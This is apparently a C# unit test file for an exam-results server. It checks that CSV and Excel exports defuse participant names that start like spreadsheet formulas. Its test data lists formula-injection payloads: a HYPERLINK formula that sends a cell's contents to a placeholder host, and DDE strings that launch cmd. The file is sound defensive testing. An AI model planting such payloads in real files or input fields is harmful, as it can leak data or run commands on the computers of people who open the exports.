using System.Text;
using AsnCat.Tool.Csv;
using AsnCat.Server.Data;
using AsnCat.Server.Publishing;
using AsnCat.Server.Results;
using ClosedXML.Excel;
namespace AsnCat.Server.Tests.Hostile;

/// <summary>
/// A name that a spreadsheet would run as a formula (= + - @) leaves every export as inert text:
/// CSV fields get a leading apostrophe (as the PIN sheet and the audit export already do), .xlsx
/// cells are text cells, never formulas.
/// </summary>
public sealed class HostileExportTests
{
    public static TheoryData<string> FormulaNames => new()
    {
        "=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"klik\")",
        "+62-811-0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    };

    private static StandingRow Row(string name) =>
        new("F-1", 1, "P-0001", name, "umum", new Dictionary<string, int> { ["TWK"] = 100, ["TIU"] = 120, ["TKP"] = 180 }, 400, true, null, true, "lulus", "final");

    private static readonly SubtestColumn[] Skd = [new("TWK", "Tes Wawasan Kebangsaan"), new("TIU", "Tes Intelegensia Umum"), new("TKP", "Tes Karakteristik Pribadi")];

    /// <summary>The CSV's second record (first data row), parsed back as a spreadsheet would see the fields.</summary>
    private static string[] DataRow(byte[] csv)
    {
        var text = Encoding.UTF8.GetString(csv).TrimStart('\uFEFF');
        return CsvTable.Records(text).Skip(1).First().Fields;
    }

    [Theory]
    [MemberData(nameof(FormulaNames))]
    public void The_results_csv_neutralises_a_name_that_starts_like_a_formula(string name)
    {
        var fields = DataRow(ResultExports.Csv(Skd, [Row(name)]));

        Assert.Equal("'" + name, fields[3]);
    }

    [Theory]
    [MemberData(nameof(FormulaNames))]
    public void The_published_csv_neutralises_a_name_that_starts_like_a_formula(string name)
    {
        var table = new PublishedTable("sesi", "S-1", "Hasil sesi S-1", ["nomor", "nama", "total"], [new PublishedRow("P-0001", ["P-0001", name, "400"])]);

        var fields = DataRow(PublicationFiles.Csv(table));

        Assert.Equal(["P-0001", "'" + name, "400"], fields);
    }

    [Theory]
    [MemberData(nameof(FormulaNames))]
    public void Xlsx_exports_keep_such_a_name_as_a_text_cell_never_a_formula(string name)
    {
        var publication = new Publication { Kind = "sesi", Subject = "S-1", Title = "Hasil", PublishedBy = "uji", RowsJson = "[]", RowsSha256 = "", Version = 1 };
        var table = new PublishedTable("sesi", "S-1", "Hasil sesi S-1", ["nomor", "nama"], [new PublishedRow("P-0001", ["P-0001", name])]);
        foreach (var (bytes, column) in new[] { (ResultExports.Xlsx(Skd, [Row(name)], "F-1", "Hasil"), 4), (PublicationFiles.Xlsx(table, publication), 2) })
        {
            using var book = new XLWorkbook(new MemoryStream(bytes));
            var cell = book.Worksheets.First().Cell(2, column);
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.Equal(name, cell.GetString());
        }
    }
}
